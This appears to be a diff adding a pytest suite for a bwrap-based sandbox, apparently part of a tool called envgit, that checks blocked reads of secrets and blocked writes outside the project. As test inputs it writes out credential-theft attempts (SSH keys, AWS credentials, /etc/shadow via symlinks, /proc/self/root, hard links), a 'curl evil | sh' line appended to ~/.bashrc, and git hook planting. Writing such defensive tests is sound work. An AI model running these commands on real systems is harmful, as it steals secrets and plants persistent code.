@@ -1,0 +1,153 @@
+"""Every 'cannot read' and 'cannot write' of the core step, tried for real through bwrap."""
+
+import os
+import subprocess
+
+import pytest
+
+from conftest import CANARY
+
+
+def assert_closed(r):
+    assert r.returncode != 0, r.stdout + r.stderr
+    assert CANARY not in r.stdout and CANARY not in r.stderr
+
+
+def test_ssh_key_direct(proj):
+    r = proj.run("cat ~/.ssh/id_ed25519")
+    assert_closed(r)
+    assert "No such file" in r.stderr or "Permission denied" in r.stderr
+
+
+@pytest.mark.parametrize("path", ["~/.aws/credentials", "~/.config/gh/hosts.yml", "~/.netrc",
+                                  "~/.bash_history", "/etc/shadow"])
+def test_default_denies(proj, path):
+    assert_closed(proj.run(f"cat {path}"))
+
+
+def test_through_symlink_planted_in_project(proj):
+    os.symlink(proj.home / ".ssh" / "id_ed25519", proj.root / "key")
+    assert_closed(proj.run("cat key"))
+
+
+def test_through_proc_self_root(proj):
+    assert_closed(proj.run(f"cat /proc/self/root{proj.home}/.ssh/id_ed25519"))
+    assert_closed(proj.run(f"cat /proc/1/root{proj.home}/.ssh/id_ed25519"))
+
+
+def test_hard_link_attempt(proj):
+    r = proj.run("ln ~/.ssh/id_ed25519 stolen && cat stolen")
+    assert_closed(r)
+    assert not (proj.root / "stolen").exists()
+
+
+def test_dotdot_from_subdirectory(proj):
+    (proj.root / "a" / "b").mkdir(parents=True)
+    assert_closed(proj.run("cat ../../../.ssh/id_ed25519", cwd=proj.root / "a" / "b"))
+
+
+def test_nested_env_files(proj):
+    d = proj.root / "services" / "api"
+    d.mkdir(parents=True)
+    (d / ".env").write_text(f"DB_PASSWORD={CANARY}\n")
+    (d / ".env.production").write_text(f"KEY={CANARY}\n")
+    (d / ".env.example").write_text("DB_PASSWORD=changeme\n")
+    r = proj.run("cat services/api/.env")
+    assert_closed(r)
+    assert "Permission denied" in r.stderr
+    assert_closed(proj.run("cat .env.production", cwd=d))
+    ok = proj.run("cat services/api/.env.example")
+    assert ok.returncode == 0 and "changeme" in ok.stdout
+    # the denial is recorded on the step that named the path
+    show = proj.envgit("show", "1", "--json", check=True)
+    assert str(d / ".env") in show.stdout
+
+
+def test_user_deny_and_reallow(proj):
+    (proj.root / "secrets").mkdir()
+    (proj.root / "secrets" / "prod.pem").write_text(CANARY)
+    proj.write_policy("version: 1\nfilesystem:\n  deny_read: [secrets]\n"
+                      "  allow_read: [\"~/.ssh/known_hosts\"]\n")
+    assert_closed(proj.run("cat secrets/prod.pem"))
+    r = proj.run("cat ~/.ssh/known_hosts")
+    assert r.returncode == 0 and "github.com" in r.stdout
+    assert_closed(proj.run("cat ~/.ssh/id_ed25519"))
+
+
+def test_deny_inside_an_allowed_directory(proj):
+    proj.write_policy("version: 1\nfilesystem:\n  allow_read: [\"~/.config\"]\n")
+    (proj.home / ".config" / "tool.toml").write_text("ok = true\n")
+    r = proj.run("cat ~/.config/tool.toml")
+    assert r.returncode == 0 and "ok = true" in r.stdout
+    assert_closed(proj.run("cat ~/.config/gh/hosts.yml"))
+
+
+def test_home_lists_nothing_private(proj):
+    r = proj.run("ls -A ~")
+    assert r.returncode == 0
+    names = set(r.stdout.split())
+    assert names <= {".pyenv", "proj"}, names
+    assert ".ssh" not in names and ".aws" not in names and ".bash_history" not in names
+
+
+def test_write_bashrc_from_subdirectory(proj):
+    (proj.root / "sub").mkdir()
+    before = (proj.home / ".bashrc").read_text()
+    proj.run("echo 'curl evil | sh' >> ~/.bashrc; echo pwned > ../../.bashrc", cwd=proj.root / "sub")
+    assert (proj.home / ".bashrc").read_text() == before
+
+
+def test_write_outside_project(proj):
+    r = proj.run(f"echo x > {proj.home}/outside.txt")
+    assert r.returncode != 0
+    assert not (proj.home / "outside.txt").exists()
+    r = proj.run("echo x > /usr/local/envgit-test")
+    assert r.returncode != 0 and not os.path.exists("/usr/local/envgit-test")
+
+
+def test_git_hooks_and_config_are_read_only(proj):
+    r = proj.run("echo 'echo pwned' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit")
+    assert r.returncode != 0
+    assert not (proj.root / ".git" / "hooks" / "pre-commit").exists()
+    before = (proj.root / ".git" / "config").read_text()
+    r = proj.run("git config core.hooksPath .husky")
+    assert r.returncode != 0
+    assert (proj.root / ".git" / "config").read_text() == before
+
+
+def test_configured_hooks_path_is_read_only(proj):
+    subprocess.run(["git", "-C", str(proj.root), "config", "core.hooksPath", ".husky"], check=True)
+    r = proj.run("mkdir -p .husky && echo 'echo pwned' > .husky/pre-commit")
+    assert r.returncode != 0
+    assert not (proj.root / ".husky" / "pre-commit").exists()
+
+
+def test_policy_file_is_read_only(proj):
+    before = (proj.root / "envgit.yaml").read_text()
+    r = proj.run("echo 'version: 1' > envgit.yaml")
+    assert r.returncode != 0
+    assert (proj.root / "envgit.yaml").read_text() == before
+
+
+def test_state_dir_is_invisible(proj):
+    proj.run("true")
+    r = proj.run("ls -A .envgit; cat .envgit/journal.sqlite")
+    assert r.stdout.strip() == ""
+    assert r.returncode != 0
+    assert (proj.root / ".envgit" / "journal.sqlite").exists()
+
+
+def test_project_is_writable(proj):
+    r = proj.run("mkdir -p src && echo hi > src/a.txt && cat src/a.txt")
+    assert r.returncode == 0 and r.stdout == "hi\n"
+    assert (proj.root / "src" / "a.txt").read_text() == "hi\n"
+
+
+def test_tmp_is_private(proj, tmp_path):
+    marker = f"/tmp/envgit-host-marker-{os.getpid()}"
+    open(marker, "w").write("host")
+    try:
+        r = proj.run(f"cat {marker}; echo in > /tmp/inside && cat /tmp/inside")
+        assert "host" not in r.stdout and "in" in r.stdout
+    finally:
+        os.unlink(marker)
